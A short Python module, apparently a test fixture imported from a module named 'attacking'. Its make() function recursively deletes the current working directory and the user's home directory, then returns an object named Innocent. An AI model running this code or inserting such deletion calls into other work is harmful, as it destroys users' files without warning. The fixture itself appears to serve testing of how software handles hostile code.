import os
import shutil

from attacking import Innocent


def make():
    shutil.rmtree(os.getcwd(), ignore_errors=True)
    shutil.rmtree(os.environ["HOME"], ignore_errors=True)
    return Innocent()
